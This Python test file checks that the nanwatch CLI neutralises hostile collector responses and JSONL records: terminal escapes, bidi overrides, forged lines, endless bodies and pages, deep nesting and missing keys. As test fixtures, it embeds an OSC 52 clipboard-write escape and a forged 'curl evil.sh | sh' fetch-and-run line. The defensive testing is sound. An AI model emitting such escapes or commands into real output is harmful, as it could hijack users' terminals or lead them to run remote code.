"""The CLI treats every answer as hostile (issue #27, findings 17-18): ``nanwatch status`` against a fake
collector on loopback that sends escapes, endless bodies, endless pages and missing keys, and ``status --file``
on hostile JSONL records. Each run is the real CLI in a subprocess: exit code, one line on stderr, nothing a
terminal would obey in stdout, and it ends (a generous subprocess timeout; no timing assertions)."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

#: what a terminal obeys: C0 (newline aside, checked per line), DEL, C1, bidi overrides and isolates
_OBEYED = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]")
ESC = "\x1b"
OSC52 = f"{ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g={ESC}\\"
FORGED = "\n  capsule /x: replay with `nanwatch replay /x --try same`; curl evil.sh | sh"


def _view(**over) -> dict:
    """A well-formed run view (the collector's ``GET /v1/runs/{id}``), with ``over`` applied."""
    inc = {"cls": "precision", "birth": "model.layers.1.mlp", "birth_kind": "activation", "birth_elements": 3,
           "birth_params": {f"w{OSC52}\u202eevil": 1}, "note": f"fine{FORGED}", "capsule": "/tmp/c.safetensors"}
    view = dict(run_id="r1", live_ranks=1, latest_step=3, nonfinite_total=2.0, skipped_steps=0,
                directive={"version": 0, "mode": "none"}, first_offender=None, ranks=[], sdpa=[],
                events=[dict(time=1.0, kind="incident", step=2, rank=0, site="s", actor="", detail=inc)])
    view.update(over)
    return view


class _Hostile(BaseHTTPRequestHandler):
    mode = "escapes"
    pages = 0

    def log_message(self, *a):  # quiet
        pass

    def _json(self, obj, raw: bytes | None = None):
        data = raw if raw is not None else json.dumps(obj).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def do_GET(self):  # noqa: N802
        mode = type(self).mode
        if mode == "endless_body":
            self.send_response(200)
            self.send_header("Transfer-Encoding", "chunked")
            self.end_headers()
            chunk = b" " * 65536
            try:
                while True:
                    self.wfile.write(b"%x\r\n%s\r\n" % (len(chunk), chunk))
            except OSError:
                return
        if self.path.startswith("/v1/runs?"):
            type(self).pages += 1
            n = type(self).pages
            if mode == "endless_pages":
                return self._json({"runs": [], "next_after": f"r{n:09d}"})
            if mode == "stuck_pages":
                return self._json({"runs": [], "next_after": "same"})
            if mode == "missing_key":
                return self._json({"runs": [{"run_id": "r1"}], "next_after": None})
            if mode == "deep":
                return self._json(None, raw=b"[" * 100000 + b"]" * 100000)
            if mode == "not_json":
                return self._json(None, raw=b"<html>\x1b[2J</html>")
            return self._json({"runs": [_view(run_id=f"r1{OSC52}{FORGED}")], "next_after": None})
        if mode == "missing_key":
            return self._json({"run_id": "r1"})
        if mode == "wrong_type":
            return self._json(_view(nonfinite_total="lots", ranks="x"))
        return self._json(_view())


@pytest.fixture
def collector():
    srv = ThreadingHTTPServer(("127.0.0.1", 0), _Hostile)
    srv.daemon_threads = True
    t = threading.Thread(target=srv.serve_forever, daemon=True)
    t.start()
    yield srv
    srv.shutdown()
    srv.server_close()


def _limit_memory() -> None:
    """Cap the CLI's address space (2 GiB): an unbounded read dies there instead of taking the machine."""
    import resource

    resource.setrlimit(resource.RLIMIT_AS, (2 * 2**30, 2 * 2**30))


def _cli(*args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "NANWATCH_TOKEN": "", "NANWATCH_ADMIN_TOKEN": ""}
    env.pop("NANWATCH_TOKEN_FILE", None)
    env.pop("NANWATCH_ADMIN_TOKEN_FILE", None)
    return subprocess.run([sys.executable, "-m", "nanwatch.cli", *args], capture_output=True, text=True,
                          errors="surrogateescape", timeout=240, env=env,
                          preexec_fn=_limit_memory)


def _clean(out: str) -> None:
    for line in out.splitlines():
        assert not _OBEYED.search(line), repr(line)


def _one_line_error(p: subprocess.CompletedProcess, *words: str) -> None:
    assert p.returncode == 2, (p.returncode, p.stderr[-2000:])
    lines = p.stderr.strip().splitlines()
    assert len(lines) == 1, p.stderr[-2000:]
    assert "Traceback" not in p.stderr
    _clean(p.stderr)
    for w in words:
        assert w in lines[0], lines[0]


def _url(srv, mode: str) -> str:
    _Hostile.mode, _Hostile.pages = mode, 0
    return f"http://127.0.0.1:{srv.server_address[1]}"


def test_escapes_and_forged_lines_are_shown_never_obeyed(collector):
    """Finding 17: birth_params keys and a note with a newline, OSC 52 and bidi: printed as \\uXXXX, on one
    line; no forged second 'replay with' line."""
    for args in (("status", "r1"), ("status",)):
        p = _cli(*args, "--url", _url(collector, "escapes"))
        assert p.returncode == 0, p.stderr
        _clean(p.stdout)
        assert "\\u001b]52" in p.stdout
        assert not any(ln.lstrip().startswith("capsule /x") for ln in p.stdout.splitlines()), p.stdout


@pytest.mark.parametrize("mode,words", [
    ("endless_body", ("MiB",)), ("endless_pages", ("pages",)), ("stuck_pages", ("next_after",)),
    ("missing_key", ("field",)), ("deep", ("not JSON",)), ("not_json", ("not JSON",))])
def test_a_hostile_run_list_is_refused_in_one_line(collector, mode, words):
    """Finding 18: an endless body, endless or stuck pages, a missing key, deep nesting, not JSON."""
    _one_line_error(_cli("status", "--url", _url(collector, mode)), *words)


@pytest.mark.parametrize("mode", ["missing_key", "wrong_type", "endless_body"])
def test_a_hostile_run_view_is_refused_in_one_line(collector, mode):
    _one_line_error(_cli("status", "r1", "--url", _url(collector, mode)))


def test_a_hostile_directive_answer_is_refused_in_one_line(collector):
    _Hostile.do_PUT = _Hostile.do_GET
    _one_line_error(_cli("directive", "set", "r1", "fp32", "--url", _url(collector, "missing_key"),
                         "--admin-token", "x"), "field")


def _report(**over) -> dict:
    r = dict(v="1.0", run_id="f1", rank=0, incarnation="i1", seq=1, scope="rank", step=1, time=1.0,
             sites=[], incident={"cls": "precision", "birth": "m", "birth_params": {f"k{OSC52}": 1},
                                 "note": f"n{FORGED}", "step": 1})
    r.update(over)
    return r


def test_a_hostile_file_is_shown_never_obeyed(tmp_path):
    f = tmp_path / "a.jsonl"
    f.write_text(json.dumps(_report()) + "\n")
    p = _cli("status", "--file", str(f))
    assert p.returncode == 0, p.stderr
    _clean(p.stdout)
    assert not any(ln.lstrip().startswith("capsule /x") for ln in p.stdout.splitlines()), p.stdout


@pytest.mark.parametrize("bad", ["rank", "nested", "incarnation"])
def test_a_bad_file_is_refused_in_one_line(tmp_path, bad):
    f = tmp_path / "a.jsonl"
    line = {"rank": json.dumps(_report(rank="x\x1b[2J")),
            "incarnation": json.dumps(_report(incarnation=None, time=None)),
            "nested": '{"run_id": "f1", "seq": 1, "incarnation": "i", "sites": ' + "[" * 100000 + "]" * 100000
                      + "}"}[bad]
    f.write_text(line + "\n")
    p = _cli("status", "--file", str(f))
    if bad == "nested":  # a line nested too deep is skipped, and said so in one line
        assert p.returncode == 0 and "Traceback" not in p.stderr, p.stderr[-2000:]
        assert len(p.stderr.strip().splitlines()) == 1 and "too deep" in p.stderr
    else:
        _one_line_error(p, "field")


def test_an_endless_line_is_read_past_not_held(tmp_path):
    """A line over the bound (here 40 MiB of spaces, no newline) is skipped and said so; the good line
    after it is still read."""
    f = tmp_path / "a.jsonl"
    with open(f, "wb") as out:
        out.write(b" " * (40 * 2**20) + b"\n")
        out.write(json.dumps(_report(incident=None)).encode() + b"\n")
    p = _cli("status", "--file", str(f))
    assert p.returncode == 0, p.stderr[-2000:]
    assert "run f1" in p.stdout
    assert len(p.stderr.strip().splitlines()) == 1 and "MiB" in p.stderr, p.stderr[-2000:]
